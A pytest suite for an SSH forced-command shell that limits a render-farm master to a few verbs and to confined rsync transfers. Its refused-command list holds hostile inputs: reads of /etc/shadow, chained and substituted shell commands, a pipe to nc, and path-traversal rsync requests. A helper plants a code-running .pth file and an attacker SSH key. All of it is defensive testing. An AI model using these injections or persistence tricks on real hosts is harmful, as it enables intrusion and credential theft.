# SPDX-License-Identifier: MIT
"""afarm-slave-shell's verb table: what the master's key may run on a slave, and nothing else."""

import logging
import os
import shlex
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from afarm import __version__
from afarm.slave import agent, shell
from afarm.slave import config as slave_config
from afarm.transport.rsync import SSHTarget, rsync_argv, transferred_bytes

PUT = "rsync --server -te.LsfxCIvu --timeout=60 --stats --partial-dir .rsync-partial --mkpath ."
GET = "rsync --server --sender -te.LsfxCIvu --timeout=60 ."


class Exec(Exception):
    """Stands in for os.execve: records the call and stops there."""

    def __init__(self, path: str, argv: list[str], env: dict[str, str]) -> None:
        super().__init__(path)
        self.path, self.argv, self.env = path, argv, env


@pytest.fixture
def slave(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
    work = tmp_path / "work"
    (work / "cache").mkdir(parents=True)
    apps = tmp_path / "apps"
    apps.mkdir()
    conf = tmp_path / "slave.conf"
    conf.write_text(f"[slave]\nname = s1\nwork_dir = {work}\napplications_dir = {apps}\n")
    rrsync = tmp_path / "rrsync"
    rrsync.write_text("#!/bin/sh\nexit 99\n")
    monkeypatch.setattr(shell, "RRSYNC", str(rrsync))
    calls: dict[str, Any] = {"serve": [], "conf": conf, "work": work.resolve(), "apps": apps}

    def fake_execve(path: str, argv: list[str], env: dict[str, str]) -> None:
        raise Exec(path, argv, env)

    def fake_serve(name: str, work_dir: Path, applications_dir: Path, *_: object,
                   **__: object) -> int:
        calls["serve"].append((name, work_dir, applications_dir))
        return 0

    monkeypatch.setattr(os, "execve", fake_execve)
    monkeypatch.setattr(agent, "serve", fake_serve)
    yield calls


def _main(slave: dict[str, Any], command: str | None) -> int:
    env = {"SSH_CONNECTION": "10.231.0.1 40000 10.231.0.11 22", "PATH": "/usr/bin:/bin"}
    if command is not None:
        env["SSH_ORIGINAL_COMMAND"] = command
    return shell.main(["--config", str(slave["conf"])], env=env)


REFUSED = [
    None,  # ssh HOST with no command: an interactive login
    "",
    "   ",
    "ls /",
    "cat /etc/shadow",
    "sh -c id",
    "bash",
    "/bin/sh",
    "scp -t /tmp",
    "scp -f /etc/shadow",
    "sftp",
    "internal-sftp",
    "true",
    "python3",
    "version; id",
    "version && cat /etc/shadow",
    "version || id",
    "version | nc 10.0.0.1 80",
    "serve $(id)",
    "serve `id`",
    "version > /tmp/x",
    "version < /etc/shadow",
    "version & id",
    "version\nid",
    "serve 'unbalanced",
    "serve extra",
    "version --all",
    "Serve",
    "/usr/bin/rsync --server --sender -te.LsfxCIvu . cache/x",
    "rsync",
    "rsync --version",
    "rsync -e sh host:x",
    "rsync --daemon",
    f"{PUT} ../",
    f"{PUT} cache/../../",
    f"{PUT} /etc/",
    f"{PUT} /tmp/",
    f"{GET} ../etc/shadow",
    f"{GET} /etc/shadow",
    f"{GET} cache/../../../etc/shadow",
    f"{GET} ..",
    f"{GET} 'cache/a b'",
    f"{GET} cache/*",
    f"{GET} cache/{{a,b}}",
    f"{GET} ~/x",
    f"{GET} -rf",
    f"{GET} cache/a cache/b",
    f"{GET}",
    f"{PUT} .ssh/",  # work dir == home: the forced command itself would be in reach
    f"{GET} .ssh/authorized_keys",
    f"{PUT} cache/.hidden/",
    f"{GET} .rsync-partial/abc",
    f"{GET} cache/",  # a get reads one file
    f"{PUT} cache/x",  # a put names a directory
    "rsync --server -te.LsfxCIvu --delete . cache/",
    "rsync --server -te.LsfxCIvu --remove-source-files . cache/",
    "rsync --server -te.LsfxCIvu --log-file=/tmp/x . cache/",
    "rsync --server -te.LsfxCIvu --partial-dir /tmp/p . cache/",
    "rsync --server -te.LsfxCIvu --temp-dir=/tmp . cache/",
    "rsync --server --sender -te.LsfxCIvu --files-from=/etc/passwd . x",
    "rsync --server --sender -te.LsfxCIvu --mkpath . cache/x",  # put options on a get
    "rsync --server -tLe.LsfxCIvu . cache/",  # -L: follow symlinks out of the tree
    "rsync --server -e.LsfxCIvu . cache/",  # not our --times cluster
    "rsync --server -te.LsfxCIvu -te.LsfxCIvu . cache/",
    "rsync --server --sender --sender -te.LsfxCIvu . cache/x",
    "rsync --sender -te.LsfxCIvu . cache/x",
    "rsync --server --sender -te.LsfxCIvu . cache/x;id",
]


@pytest.mark.parametrize("command", REFUSED)
def test_refused_with_exit_1_one_line_and_a_log_record(
        slave: dict[str, Any], command: str | None, capsys: pytest.CaptureFixture[str],
        caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger="afarm"):
        assert _main(slave, command) == 1
    err = capsys.readouterr()
    assert err.out == ""
    lines = err.err.splitlines()
    assert len(lines) == 1 and "refused" in lines[0], err.err
    assert repr(command) in lines[0]
    records = [r for r in caplog.records if r.name == "afarm.slave.shell"]
    assert len(records) == 1 and records[0].levelno == logging.WARNING
    assert repr(command) in records[0].getMessage()
    assert "10.231.0.1" in records[0].getMessage()
    assert slave["serve"] == []


def test_refusals_are_logged_even_at_log_level_error(
        slave: dict[str, Any], caplog: pytest.LogCaptureFixture) -> None:
    conf: Path = slave["conf"]
    conf.write_text(conf.read_text() + "log_level = error\n")
    with caplog.at_level(logging.NOTSET):
        assert _main(slave, "cat /etc/shadow") == 1
    assert any("'cat /etc/shadow'" in r.getMessage() for r in caplog.records)


def test_version_prints_the_afarm_version(slave: dict[str, Any],
                                          capsys: pytest.CaptureFixture[str]) -> None:
    assert _main(slave, "version") == 0
    assert capsys.readouterr().out == f"{__version__}\n"


def test_serve_runs_the_agent_in_process(slave: dict[str, Any]) -> None:
    assert _main(slave, "serve") == 0
    assert slave["serve"] == [("s1", slave["work"], slave["apps"])]


def test_serve_without_a_name_uses_the_host_name(slave: dict[str, Any]) -> None:
    conf: Path = slave["conf"]
    conf.write_text(conf.read_text().replace("name = s1\n", ""))
    assert _main(slave, "serve") == 0
    assert slave["serve"][0][0] == os.uname().nodename


def test_put_is_handed_to_rrsync_write_only_rooted_at_the_cache_dir(
        slave: dict[str, Any]) -> None:
    with pytest.raises(Exec) as exc:
        _main(slave, f"{PUT} cache/")
    assert exc.value.path == shell.RRSYNC
    assert exc.value.argv == ["rrsync", "-wo", "-no-lock", "-no-del", "-munge",
                              str(slave["work"] / "cache")]
    assert exc.value.env["SSH_ORIGINAL_COMMAND"] == f"{PUT} ./"
    assert exc.value.env["PATH"] == "/usr/bin:/bin"


def test_get_is_handed_to_rrsync_read_only(slave: dict[str, Any]) -> None:
    with pytest.raises(Exec) as exc:
        _main(slave, f"{GET} jobs/3/17-1/out/frame_0001.png")
    assert exc.value.argv == ["rrsync", "-ro", "-no-del", str(slave["work"])]
    assert exc.value.env["SSH_ORIGINAL_COMMAND"] == f"{GET} jobs/3/17-1/out/frame_0001.png"


def test_an_absolute_path_inside_the_work_dir_is_made_relative(slave: dict[str, Any]) -> None:
    with pytest.raises(Exec) as exc:
        _main(slave, f"{GET} {slave['work']}/cache/abc")
    assert exc.value.env["SSH_ORIGINAL_COMMAND"] == f"{GET} cache/abc"
    with pytest.raises(Exec) as exc:
        _main(slave, f"{PUT} {slave['work']}/cache/")
    assert exc.value.env["SSH_ORIGINAL_COMMAND"] == f"{PUT} ./"


@pytest.mark.parametrize("dest", ["./", ".", "apps/blender/", "jobs/", "cache/sub/",
                                  "/", "cache/.local/"])
def test_a_put_anywhere_but_the_cache_dir_is_refused(slave: dict[str, Any], dest: str,
                                                     capsys: pytest.CaptureFixture[str]
                                                     ) -> None:
    assert _main(slave, f"{PUT} {dest}") == 1
    assert "refused" in capsys.readouterr().err


@pytest.mark.parametrize("home", ["work", "work/sub", ""])
def test_a_work_dir_that_is_or_holds_the_users_home_is_refused(
        slave: dict[str, Any], monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str], home: str) -> None:
    work: Path = slave["work"]
    where = work.parent / home if home else work.parent
    real = shell.pwd.getpwuid(os.getuid())
    fake = type(real)((*real[:5], str(where), *real[6:]))
    monkeypatch.setattr(shell.pwd, "getpwuid", lambda uid: fake)
    if home == "":  # the home above the work dir, as the package has it: fine
        with pytest.raises(Exec):
            _main(slave, f"{PUT} cache/")
        return
    assert _main(slave, f"{PUT} cache/") == 1
    assert _main(slave, "serve") == 1 and slave["serve"] == []
    assert "is or contains this user's home" in capsys.readouterr().err


def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


def test_the_agent_and_rrsync_start_with_a_private_umask(
        slave: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[int] = []

    def serve(name: str, work_dir: Path, applications_dir: Path, *_: object,
              **__: object) -> int:
        seen.append(_umask())
        return 0

    def execve(path: str, argv: list[str], env: dict[str, str]) -> None:
        seen.append(_umask())
        raise Exec(path, argv, env)

    monkeypatch.setattr(agent, "serve", serve)
    monkeypatch.setattr(os, "execve", execve)
    before = os.umask(0o022)
    try:
        assert _main(slave, "serve") == 0
        with pytest.raises(Exec):
            _main(slave, f"{PUT} cache/")
        with pytest.raises(Exec):
            _main(slave, f"{GET} cache/abc")
        assert _umask() == 0o022  # given back to an in-process caller
    finally:
        os.umask(before)
    assert seen == [0o077, 0o077, 0o077]


def test_a_work_dir_below_a_hidden_dir_still_takes_absolute_paths(
        slave: dict[str, Any], tmp_path: Path) -> None:
    work = tmp_path / ".afarm" / "work"
    work.mkdir(parents=True)
    conf: Path = slave["conf"]
    conf.write_text(conf.read_text().replace(str(tmp_path / "work"), str(work)))
    with pytest.raises(Exec) as exc:
        _main(slave, f"{GET} {work}/cache/abc")
    assert exc.value.env["SSH_ORIGINAL_COMMAND"] == f"{GET} cache/abc"
    assert _main(slave, f"{GET} {work}/.ssh/authorized_keys") == 1


@pytest.mark.parametrize("variant", [
    "rsync --server -te.LsfxCIvu --partial-dir=.rsync-partial --stats . cache/",
    "rsync --server -t . cache/",
    "rsync --server -te31.LsfxC --mkpath . cache/",
    "rsync --server --sender -te.LsfxCIvu . cache/abc",
])
def test_the_shapes_of_other_rsync_versions_are_accepted(slave: dict[str, Any],
                                                        variant: str) -> None:
    with pytest.raises(Exec):
        _main(slave, variant)


def test_missing_rrsync_is_refused_with_a_hint(slave: dict[str, Any],
                                               monkeypatch: pytest.MonkeyPatch,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr(shell, "RRSYNC", "/nonexistent/rrsync")
    assert _main(slave, f"{PUT} cache/") == 1
    assert "install rsync" in capsys.readouterr().err


def test_a_broken_config_exits_78(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    conf = tmp_path / "slave.conf"
    conf.write_text("[slave]\nlog_level = loud\n")
    env = {"SSH_ORIGINAL_COMMAND": "version"}
    assert shell.main(["--config", str(conf)], env=env) == 78
    assert "[slave] log_level" in capsys.readouterr().err
    assert shell.main(["--config", str(tmp_path / "missing.conf")], env=env) == 78


def test_without_the_default_config_file_the_defaults_apply(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr(slave_config, "DEFAULT_CONFIG", Path("/nonexistent/slave.conf"))
    settings, level = shell.load_settings(None)
    assert settings.work_dir == Path("/var/lib/afarm-slave/work")
    assert settings.applications_dir == Path("/etc/afarm/applications.d")
    assert level == "info"
    assert shell.main([], env={"SSH_ORIGINAL_COMMAND": "version"}) == 0


def test_bad_own_arguments_exit_2(slave: dict[str, Any]) -> None:
    assert shell.main(["--bogus"], env={}) == 2


# -- the real rsync and rrsync, with a stand-in for ssh that runs the shell locally --------

FAKE_SSH = """#!/bin/sh
# Stands in for ssh: skips the options and the destination like sshd would, and runs the
# forced command with what the client asked for in SSH_ORIGINAL_COMMAND.
while [ $# -gt 0 ]; do
    case "$1" in
        -o|-i|-p|-F|-l) shift 2 ;;
        *) shift; break ;;
    esac
done
SSH_ORIGINAL_COMMAND="$*" PYTHONPATH={src} exec {python} -m afarm.slave.shell --config {conf}
"""


@pytest.fixture
def real_rsync(slave: dict[str, Any], tmp_path: Path) -> Iterator[dict[str, Any]]:
    # The shell runs in a child process: the fakes of `slave` do not reach it.
    # make test installs rsync; its absence is a broken set-up, not a reason to pass.
    assert shutil.which("rsync") and os.path.isfile("/usr/bin/rrsync"), \
        "needs rsync and /usr/bin/rrsync (Debian's rsync >= 3.2.4): run make deps-test"
    fake = tmp_path / "ssh"
    src = Path(shell.__file__).resolve().parents[2]
    fake.write_text(FAKE_SSH.format(src=src, python=sys.executable, conf=slave["conf"]))
    fake.chmod(0o755)
    ctl = Path(tempfile.mkdtemp(prefix="afc-"))
    target = SSHTarget(user="afarm", host="slave", port=22, key=tmp_path / "key",
                       known_hosts=tmp_path / "kh", control_dir=ctl / "c")
    yield {**slave, "fake": fake, "target": target}
    shutil.rmtree(ctl)


def _rsync(ctx: dict[str, Any], direction: str, local: Path, remote: str
           ) -> subprocess.CompletedProcess[str]:
    # Built for the cache dir, then pointed at ``remote``: the master's own checks would
    # refuse other puts before the shell ever saw them.
    argv = rsync_argv(ctx["target"], direction, local,  # type: ignore[arg-type]
                      "cache/" if direction == "put" else remote)
    argv[-1 if direction == "put" else -2] = f"afarm@slave:{remote}"
    argv[argv.index("-e") + 1] = str(ctx["fake"])
    return subprocess.run(argv, capture_output=True, text=True, check=False,  # noqa: S603
                          env={**os.environ, "LC_ALL": "C"}, timeout=60)


def test_the_masters_real_put_and_get_pass_the_shell_and_rrsync(
        real_rsync: dict[str, Any], tmp_path: Path) -> None:
    data = os.urandom(300_000)
    src = tmp_path / "abc"
    src.write_bytes(data)
    cp = _rsync(real_rsync, "put", src, "cache/")
    assert cp.returncode == 0, cp.stderr
    assert (real_rsync["work"] / "cache" / "abc").read_bytes() == data
    assert transferred_bytes(cp.stdout, "put") > len(data)
    # Again, unchanged: only the quick check crosses (rrsync 3.5 breaks this for a put onto
    # the file's own path, which is why a put names the directory).
    cp = _rsync(real_rsync, "put", src, "cache/")
    assert cp.returncode == 0, cp.stderr
    assert transferred_bytes(cp.stdout, "put") < 200
    assert (real_rsync["work"] / "cache" / "abc").stat().st_mode & 0o077 == 0
    # Only the cache dir takes puts.
    cp = _rsync(real_rsync, "put", src, "apps/blender/4.2/")
    assert cp.returncode != 0 and "cache dir" in cp.stderr, cp.stderr
    assert not (real_rsync["work"] / "apps").exists()
    cp = _rsync(real_rsync, "get", tmp_path / "back", "cache/abc")
    assert cp.returncode == 0, cp.stderr
    assert (tmp_path / "back").read_bytes() == data


def test_rrsync_refuses_a_symlink_out_of_the_work_dir(real_rsync: dict[str, Any],
                                                      tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text("secret")
    (real_rsync["work"] / "escape").symlink_to(outside)
    cp = _rsync(real_rsync, "get", tmp_path / "got", "escape/secret")
    assert cp.returncode != 0
    assert "unsafe" in cp.stderr or "escaped" in cp.stderr, cp.stderr
    assert not (tmp_path / "got").exists()
    (tmp_path / "planted").write_text("x")
    cp = _rsync(real_rsync, "put", tmp_path / "planted", "escape/")
    assert cp.returncode != 0
    assert not (outside / "planted").exists()


def test_a_path_outside_the_work_dir_never_reaches_rsync(real_rsync: dict[str, Any],
                                                         tmp_path: Path) -> None:
    (tmp_path / "f").write_text("x")
    target_dir = tmp_path / "not-work"
    cp = _rsync(real_rsync, "put", tmp_path / "f", f"{target_dir}/")
    assert cp.returncode != 0
    assert "outside the work dir" in cp.stderr
    assert not target_dir.exists()


def test_as_a_login_shell_the_forced_command_text_never_picks_the_config() -> None:
    from afarm.slave.shell import as_login_shell

    argv, env = as_login_shell(["-c", "/usr/bin/afarm-slave-shell --config /tmp/evil.conf"],
                               {"SSH_ORIGINAL_COMMAND": "serve"})
    assert argv == [] and env["SSH_ORIGINAL_COMMAND"] == "serve"


def test_as_a_login_shell_a_plain_command_is_checked_like_a_forced_one() -> None:
    from afarm.slave.shell import as_login_shell

    argv, env = as_login_shell(["-c", "cat /etc/shadow"], {})
    assert argv == [] and env["SSH_ORIGINAL_COMMAND"] == "cat /etc/shadow"


def test_as_a_login_shell_other_commands_are_refused(capsys: pytest.CaptureFixture[str]) -> None:
    from afarm.slave.shell import main

    assert main(["-c", "cat /etc/shadow"], env={}) == 1
    assert "refused" in capsys.readouterr().err


def _hand_made_file_list(ctx: dict[str, Any], tmp_path: Path, command: str
                         ) -> subprocess.CompletedProcess[str]:
    """The attack on the forced command: a client that asks for an accepted put command
    but sends a recursive file list it built itself (real rsync -r does exactly that when
    the ssh it runs swaps the command for the one the shell accepts)."""
    tree = tmp_path / "tree"
    pth = tree / ".local/lib/python3.11/site-packages"
    pth.mkdir(parents=True, exist_ok=True)
    (pth / "x.pth").write_text("import os; os.system('touch /tmp/afarm-pwned')\n")
    (tree / ".ssh").mkdir(exist_ok=True)
    (tree / ".ssh/authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
    (tree / "jobs").mkdir(exist_ok=True)
    (tree / "jobs/planted").write_text("x")
    fake = tmp_path / "swap-ssh"
    fake.write_text(ctx["fake"].read_text().replace(
        'SSH_ORIGINAL_COMMAND="$*"', f"SSH_ORIGINAL_COMMAND={shlex.quote(command)}"))
    fake.chmod(0o755)
    return subprocess.run(["rsync", "-rt", "--no-inc-recursive", "-e", str(fake),  # noqa: S607
                           f"{tree}/", "afarm@slave:./"], capture_output=True, text=True,
                          check=False, env={**os.environ, "LC_ALL": "C"}, timeout=60)


def test_a_hand_made_file_list_cannot_write_outside_the_cache_dir(
        real_rsync: dict[str, Any], tmp_path: Path) -> None:
    work: Path = real_rsync["work"]
    cp = _hand_made_file_list(real_rsync, tmp_path, "rsync --server -te.LsfxCIvu . ./")
    assert cp.returncode != 0 and "cache dir" in cp.stderr, cp.stderr
    # The one destination a put may name: whatever the list says, it all stays in cache/.
    cp = _hand_made_file_list(real_rsync, tmp_path, "rsync --server -te.LsfxCIvu . cache/")
    outside = sorted(str(p.relative_to(work)) for p in work.rglob("*")
                     if not p.is_relative_to(work / "cache"))
    assert outside == [], (outside, cp.stderr)
    assert not (work / ".local").exists() and not (work / ".ssh").exists()
    assert not (work / "jobs" / "planted").exists()
